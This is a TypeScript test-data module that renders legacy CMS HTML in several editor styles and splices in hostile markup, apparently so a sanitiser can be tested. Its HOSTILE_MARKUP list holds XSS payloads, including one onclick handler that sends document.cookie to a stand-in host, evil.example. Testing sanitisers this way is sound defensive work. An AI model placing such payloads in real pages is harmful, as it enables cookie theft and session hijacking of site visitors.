/**
 * HTML as the legacy CMS stores it: what editors typed in its rich-text box or pasted from MS Word,
 * plus, on a few rows, markup an attacker (or a careless copy-paste) left behind. The site renders
 * these fields, so the sandbox must hand it the same mess to sanitise.
 */

import type { Random } from './random';

/** Markup that must never reach a visitor's browser intact. Every feed with HTML carries all of it. */
export const HOSTILE_MARKUP = [
  '<script>alert(1)</script>',
  '<img src="x" onerror="alert(1)">',
  '<a href="javascript:alert(1)">Click here for details</a>',
  '<iframe src="https://evil.example" width="600" height="400"></iframe>',
  `<div onclick="document.location='https://evil.example/?c='+document.cookie">Tap to read more</div>`,
  '<svg onload="alert(1)"><circle r="10"></circle></svg>',
  '<a href=" JaVaScRiPt:alert(1)">Read more</a>',
  '<style>body{display:none}</style>',
] as const;

export type HtmlBlock =
  | { kind: 'text'; text: string; lead?: string }
  | { kind: 'heading'; text: string }
  | { kind: 'list'; items: readonly string[]; ordered?: boolean }
  | { kind: 'table'; header: readonly string[]; rows: readonly (readonly string[])[] }
  | { kind: 'image'; path: string; alt: string };

/**
 * justified: the CMS editor with "justify" pressed; word: pasted from MS Word with its styles and
 * Office namespaces; plain: bare tags.
 */
export type EditorStyle = 'justified' | 'word' | 'plain';

export const EDITOR_STYLES: readonly EditorStyle[] = ['justified', 'word', 'plain'];

export function escapeHtml(text: string): string {
  return text
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/"/g, '&quot;');
}

const WORD_SPAN_STYLE =
  "font-size: 12.0pt; font-family: Calibri, sans-serif; mso-fareast-font-family: 'Times New Roman'; mso-bidi-font-family: Arial;";

function inline(text: string, style: EditorStyle): string {
  // Word turns a double space after a full stop into a non-breaking one.
  return style === 'word'
    ? escapeHtml(text).replace(/\. (?=[A-Z])/g, '.&nbsp; ')
    : escapeHtml(text);
}

function paragraph(content: string, style: EditorStyle): string {
  if (style === 'justified') return `<p style="text-align: justify;">${content}</p>`;
  if (style === 'plain') return `<p>${content}</p>`;
  return `<p class="MsoNormal" style="margin-bottom: .0001pt;"><span style="${WORD_SPAN_STYLE}">${content}</span><o:p></o:p></p>`;
}

function renderBlock(block: HtmlBlock, style: EditorStyle): string {
  switch (block.kind) {
    case 'text': {
      const lead = block.lead ? `<strong>${inline(block.lead, style)}</strong> ` : '';
      return paragraph(`${lead}${inline(block.text, style)}`, style);
    }
    case 'heading':
      return style === 'word'
        ? paragraph(`<strong>${inline(block.text, style)}</strong>`, style)
        : `<h3>${inline(block.text, style)}</h3>`;
    case 'list': {
      const tag = block.ordered ? 'ol' : 'ul';
      const items = block.items.map((item) =>
        style === 'word'
          ? `<li class="MsoListParagraph"><span style="${WORD_SPAN_STYLE}">${inline(item, style)}</span><o:p></o:p></li>`
          : `<li>${inline(item, style)}</li>`,
      );
      return `<${tag}>${items.join('')}</${tag}>`;
    }
    case 'table': {
      const cell = (text: string): string => (text === '' ? '&nbsp;' : inline(text, style));
      const header = block.header.map((text) => `<td><strong>${cell(text)}</strong></td>`);
      const rows = block.rows.map(
        (row) => `<tr>${row.map((text) => `<td>${cell(text)}</td>`).join('')}</tr>`,
      );
      const attributes =
        style === 'word'
          ? 'class="MsoTableGrid" border="1" cellspacing="0" cellpadding="0" style="border-collapse: collapse;"'
          : 'border="1" cellpadding="6" style="width: 100%; border-collapse: collapse;"';
      return `<table ${attributes}><tbody><tr>${header.join('')}</tr>${rows.join('')}</tbody></table>`;
    }
    case 'image':
      return `<p style="text-align: center;"><img src="${block.path}" alt="${escapeHtml(block.alt)}" width="600" height="375" /></p>`;
  }
}

/**
 * Renders blocks in one editor style, splicing in `hostile` snippets between blocks. Editors
 * leave empty paragraphs behind, so one often trails the content.
 */
export function renderCmsHtml(
  random: Random,
  blocks: readonly HtmlBlock[],
  style: EditorStyle,
  hostile: readonly string[] = [],
): string {
  const parts = blocks.map((block) => renderBlock(block, style));
  for (const snippet of hostile) parts.splice(random.int(1, parts.length), 0, snippet);
  if (random.chance(0.5)) parts.push('<p>&nbsp;</p>');
  return parts.join(style === 'word' ? '\r\n' : '');
}

/**
 * Chooses which of `rowCount` rows carry hostile markup and which snippets each gets: `count`
 * rows, snippets rotated so that together they hold every HOSTILE_MARKUP entry.
 */
export function assignHostileMarkup(
  random: Random,
  rowCount: number,
  count: number,
): Map<number, string[]> {
  const chosen = random
    .shuffle(Array.from({ length: rowCount }, (_, index) => index))
    .slice(0, count);
  const perRow = Math.ceil(HOSTILE_MARKUP.length / Math.max(1, chosen.length));
  const start = random.int(0, HOSTILE_MARKUP.length - 1);
  return new Map(
    chosen.map((row, position) => [
      row,
      Array.from(
        { length: perRow },
        (_, offset) =>
          HOSTILE_MARKUP[(start + position * perRow + offset) % HOSTILE_MARKUP.length] ?? '',
      ),
    ]),
  );
}

export function containsHostileMarkup(html: string | null | undefined): boolean {
  return typeof html === 'string' && HOSTILE_MARKUP.some((snippet) => html.includes(snippet));
}
